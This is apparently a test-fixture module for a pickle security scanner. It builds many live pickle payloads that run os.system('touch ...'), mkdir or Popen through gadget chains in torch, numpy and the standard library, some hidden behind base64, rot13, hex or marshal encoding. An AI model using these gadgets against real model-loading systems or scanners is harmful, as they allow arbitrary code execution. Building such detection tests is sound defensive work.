"""More live payloads, written after `later`: known names with odd arguments, objects made and changed in odd ways.

Written as those of `later` are. Many need two steps: a known class gets a function in its state, a method calls it.
"""

from __future__ import annotations

import base64
import functools
from typing import Any

from features.scan.later import Call, Made, attribute, f, g, made, method

SYSTEM, MKDIR = g("posix:system"), g("posix:mkdir")


def obj(path: str, state: Any) -> Call:
    """An object of `module:class` that is made without arguments and given a state."""
    return f(path, by="n", state=state)


def typed(method: str, function: Any) -> Call:
    """An object of a new class, a method of which calls a function without arguments."""
    return Call(f("builtins:type", "X", (), {method: f("builtins:staticmethod", function)}))


def trees(path: str) -> dict[str, Any]:
    """What is called, by name, so that the file `path` is made, or one beside it."""
    shell, code = f"touch {path}", f"open({path!r}, 'w').close()"
    where = path.rpartition("/")[0]
    run, make = f("functools:partial", SYSTEM, shell), f("functools:partial", MKDIR, path)
    running = f("posix:system", shell)
    mapped = f("builtins:map", SYSTEM, [shell])
    pickled = b"\x80\x04" + made(running) + b"."
    group = {"lr": 0, "params": [], "initial_lr": 0}
    sgd = obj("torch.optim.sgd:SGD", {"defaults": {}, "param_groups": [group], "state": {}})
    hooks: dict[str, Any] = {f"_{when}_hooks": {} for when in ("backward", "backward_pre", "forward", "forward_pre")}
    compiled = f("builtins:compile", code, "x", "exec")
    return {
        # Names that files have, given what their own pickling never gives them.
        "numpy's generator of a class": f("numpy.random._pickle:__bit_generator_ctor", f("builtins:type", "X", (), {"__init__": run})),
        "numpy's random state of a function": f("numpy.random._pickle:__randomstate_ctor", path, MKDIR),
        "a tensor's type in old torch": f("torch._tensor:_rebuild_from_type", SYSTEM, g("builtins:int"), (shell,), {}),
        "a tensor's type of a list": f("torch._tensor:_rebuild_from_type_v2", g("builtins:list"), g("builtins:list"), (mapped,), {}),
        "a parameter of a call": f("torch._utils:_rebuild_parameter_with_state", running, True, {}, {}),
        "a schedule by a function": f("torch.optim.lr_scheduler:LambdaLR", sgd, make),
        "a schedule by functions": f("torch.optim.lr_scheduler:LambdaLR", sgd, [make]),
        "a module that is called": f("torch.nn.modules.module:Module.__call__", obj("torch.nn.modules.module:Module", {"forward": SYSTEM, **hooks}), shell),
        "a layer that is called": Call(obj("torch.nn.modules.linear:Identity", {"forward": make, "training": False, **hooks})),
        "what torch raises again": f("torch._utils:ExceptionWrapper.reraise", obj("torch._utils:ExceptionWrapper", {"exc_type": SYSTEM, "where": f"; {shell} #", "exc_msg": ""})),
        "a dotted name that torch imports": Call(f("torch._utils:_import_dotted_name", "posix.system"), (shell,)),
        "a tree of torch": f("torch.utils._pytree:tree_map_", SYSTEM, [shell]),
        "all of a tree of torch": f("torch.utils._pytree:tree_all", SYSTEM, [shell]),
        "a batch that is pinned": f("torch.utils.data._utils.pin_memory:pin_memory", obj("argparse:Namespace", {"pin_memory": make}), "cpu"),
        "a pipe of data": f("torch.utils.data.datapipes.iter.callable:MapperIterDataPipe._apply_fn", obj("argparse:Namespace", {"fn": SYSTEM, "input_col": None, "output_col": None}), shell),
        "a writer of archives": f("torch._C:PyTorchFileWriter", path),
        "a store in a file": f("torch._C._distributed_c10d:FileStore.set", f("torch._C._distributed_c10d:FileStore", path, 1), "a", "b"),
        "a saved stream of torch": f("torch.serialization:_legacy_load", f("io:BytesIO", pickled), None, f("importlib:import_module", "pickle")),
        "numpy's reader of texts": method(f("numpy.lib._iotools:StringConverter", SYSTEM), "_strict_call", shell),
        "numpy's function of places": f("numpy:fromfunction", make, ()),
        "numpy's file by NEWOBJ": Call(g("numpy:memmap"), (path, "uint8", "w+", 0, (1,)), by="n"),
        "numpy's file by a helper": f("copyreg:__newobj__", g("numpy:memmap"), path, "uint8", "w+", 0, (1,)),
        "numpy's file by a helper with names": f("copyreg:__newobj_ex__", g("numpy:memmap"), (path,), {"mode": "w+", "shape": (1,)}),
        "numpy's masked array": method(f("numpy.ma.core:MaskedArray", [1]), "dump", path),
        "numpy's records": method(f("numpy.rec:array", [1]), "tofile", path),
        # Objects that are made, or changed, in other ways.
        "a program by the helper of old protocols": f("copyreg:_reconstructor", g("subprocess:Popen"), g("subprocess:Popen"), ["touch", path]),
        "a log by the helper of old protocols": f("copyreg:_reconstructor", g("logging:FileHandler"), g("logging:FileHandler"), path),
        "an object of a new class": Call(f("builtins:type", "X", (g("logging:FileHandler"),), {}), (path,), by="o"),
        "a mailbox by OBJ": f("mailbox:mbox", path, by="o"),
        "a mailbox by INST": f("mailbox:MH", path, by="i"),
        "a socket by OBJ": f("socketserver:UnixStreamServer", path, g("socketserver:BaseRequestHandler"), by="o"),
        "a listener": f("multiprocessing.connection:Listener", path),
        "an attribute that is called": method(obj("types:SimpleNamespace", {"run": SYSTEM}), "run", shell),
        "an attribute of two states": method(obj("argparse:Namespace", ({"a": 1}, {"run": MKDIR})), "run", path),
        "an attribute that is an item": Call(f("_operator:getitem", f("builtins:vars", obj("argparse:Namespace", {"run": SYSTEM})), "run"), (shell,)),
        "an attribute of an attribute": Call(attribute(attribute(obj("argparse:Namespace", {"a": obj("argparse:Namespace", {"b": SYSTEM})}), "a"), "b"), (shell,)),
        "a hash of a class": ({}, f("builtins:hash", typed("__hash__", run))),
        "a length of a class": f("builtins:len", typed("__len__", run)),
        "a class's truth": f("builtins:bool", typed("__bool__", run)),
        "a class's path": f("pathlib:PurePosixPath", typed("__fspath__", run)),
        "a class's index": f("builtins:range", typed("__index__", run)),
        "a class's number": f("builtins:complex", typed("__complex__", run)),
        "a class's array": f("numpy:array", typed("__array__", make)),
        "a class's items": f("collections:OrderedDict", typed("keys", make)),
        "a class's iterator": f("builtins:list", typed("__iter__", make)),
        # Classes of Python that call what is in their state.
        "a visitor of trees": f("ast:NodeVisitor.visit", obj("ast:NodeVisitor", {"visit_str": SYSTEM}), shell),
        "a printer of short texts": f("reprlib:Repr.repr1", obj("reprlib:Repr", {"repr_str": MKDIR}), path, 448),
        "an item of work": f("concurrent.futures.thread:_WorkItem.run", obj("concurrent.futures.thread:_WorkItem", {"future": f("concurrent.futures:Future"), "fn": SYSTEM, "args": (shell,), "kwargs": {}})),
        "a handle of a loop": f("asyncio.events:Handle._run", obj("asyncio.events:Handle", (None, {"_context": f("contextvars:copy_context"), "_callback": SYSTEM, "_args": (shell,)}))),
        "an object that is copied": f("copy:_reconstruct", 1, None, SYSTEM, (shell,)),
        "a context": f("contextvars:Context.run", f("contextvars:copy_context"), SYSTEM, shell),
        "a thread": (f("_thread:start_new_thread", SYSTEM, (shell,)), f("time:sleep", 1)),
        "a bound method": Call(f("types:MethodType", SYSTEM, shell)),
        "a property": f("builtins:property.__get__", f("builtins:property", SYSTEM), shell),
        "a cached function": Call(f("functools:_lru_cache_wrapper", SYSTEM, 1, False, g("builtins:tuple")), (shell,)),
        "a function of one kind": Call(f("functools:singledispatch", SYSTEM), (shell,)),
        "a number in words": f("locale:atof", shell, SYSTEM),
        "a comparison of texts": f("difflib:SequenceMatcher", SYSTEM, "", [shell]),
        "the largest by a key": f("heapq:nlargest", 2, [shell], SYSTEM),
        "a queue of events": f("sched:scheduler.run", obj("sched:scheduler", {"_queue": [f("sched:Event", 0, 0, 0, SYSTEM, (shell,), {})], "_lock": f("threading:RLock"), "timefunc": g("time:time"), "delayfunc": g("time:sleep")})),
        "a value of a parser": f("argparse:ArgumentParser._get_values", f("argparse:ArgumentParser"), obj("argparse:Namespace", {"nargs": None, "type": SYSTEM, "choices": None, "option_strings": []}), [shell]),
        "a filter of logs": f("logging:Logger.filter", obj("logging:Logger", {"filters": [SYSTEM]}), shell),
        "a time of logs": f("logging:Formatter.formatTime", obj("logging:Formatter", {"converter": SYSTEM}), obj("argparse:Namespace", {"created": shell})),
        "a server of calls": f("xmlrpc.server:SimpleXMLRPCDispatcher._dispatch", obj("xmlrpc.server:SimpleXMLRPCDispatcher", {"funcs": {"a": SYSTEM}}), "a", (shell,)),
        # Data that is made of calls.
        "a group": f("builtins:next", f("itertools:groupby", [shell], SYSTEM)),
        "a sum": f("builtins:sum", mapped),
        "sums": f("builtins:list", f("itertools:accumulate", [path, 448], MKDIR)),
        "what is dropped": f("builtins:list", f("itertools:dropwhile", SYSTEM, [shell])),
        "what is false": f("builtins:tuple", f("itertools:filterfalse", SYSTEM, [shell])),
        "what is sorted": f("builtins:sorted", f("builtins:filter", SYSTEM, [shell])),
        "pairs of a zip": f("builtins:dict", f("builtins:zip", ["a"], mapped)),
        "a counter": f("collections:Counter", mapped),
        "a queue": f("collections:deque", mapped, 0),
        "an ordered dict": f("collections:OrderedDict", f("builtins:zip", ["a"], mapped)),
        "an array": f("array:array", "i", mapped),
        "bytes": f("builtins:bytes", mapped),
        "a set": f("builtins:frozenset", mapped),
        "a size": f("torch:Size", f("builtins:list", mapped)),
        "a duration": f("datetime:timedelta", running),
        "a path": f("pathlib:PurePosixPath", f("subprocess:getoutput", shell)),
        "a fraction": f("fractions:Fraction", running),
        "a decimal": f("decimal:Decimal", running),
        "a chain": f("builtins:list", f("itertools:chain", mapped)),
        "pairs": f("builtins:list", f("itertools:pairwise", f("builtins:map", SYSTEM, [shell, shell]))),
        # Pickles, code and texts in what is loaded.
        "a pickle of numpy in bytes": f("numpy.lib.format:read_array", f("io:BytesIO", _npy(pickled)), True),
        "a pickle on a shelf": f("shelve:Shelf.__getitem__", f("shelve:Shelf", {b"a": pickled}), "a"),
        "a pickle of a connection": f("multiprocessing.connection:_ForkingPickler.loads", pickled),
        "a pickle in base64": f("pickle:loads", f("base64:b64decode", base64.b64encode(pickled))),
        "code that was marshalled": f("builtins:exec", f("marshal:loads", f("marshal:dumps", compiled))),
        "code in base85": f("builtins:exec", f("base64:a85decode", base64.a85encode(code.encode()))),
        "code in hexadecimal": f("builtins:eval", f("codecs:decode", code.encode().hex().encode(), "hex")),
        "code in letters": f("builtins:exec", f("codecs:decode", code.translate(_TURNED), "rot13")),
        "a reference forward": f("typing:_eval_type", f("typing:ForwardRef", code), {}, {}, ()),
        "a file of the tests of Python": f("test.support.os_helper:create_empty_file", path),
        "a file of setuptools": f("setuptools._distutils.file_util:write_file", path, ["x"]),
        "a directory of setuptools": f("setuptools._distutils.dir_util:mkpath", path),
        "a file of safetensors": f("safetensors.numpy:save_file", {"a": f("numpy:zeros", 1)}, path),
        "a directory for a while": f("tempfile:TemporaryDirectory", "", "x", where, by="o"),
    }  # fmt: skip


# Those that leave no file: three remove what they made when the process ends, and numpy asks no class for an array.
WITHOUT_A_FILE = {"a store in a file", "a listener", "a directory for a while", "a class's array"}
_LETTERS = "abcdefghijklmnopqrstuvwxyz"
_TURNED = str.maketrans(
    _LETTERS + _LETTERS.upper(), (_LETTERS[13:] + _LETTERS[:13]) + (_LETTERS[13:] + _LETTERS[:13]).upper()
)


def _npy(pickled: bytes) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + pickled


def _opcodes(each: str, path: str) -> bytes:
    return made(trees(path)[each])


CALLS: dict[str, Made] = {each: functools.partial(_opcodes, each) for each in trees("")}
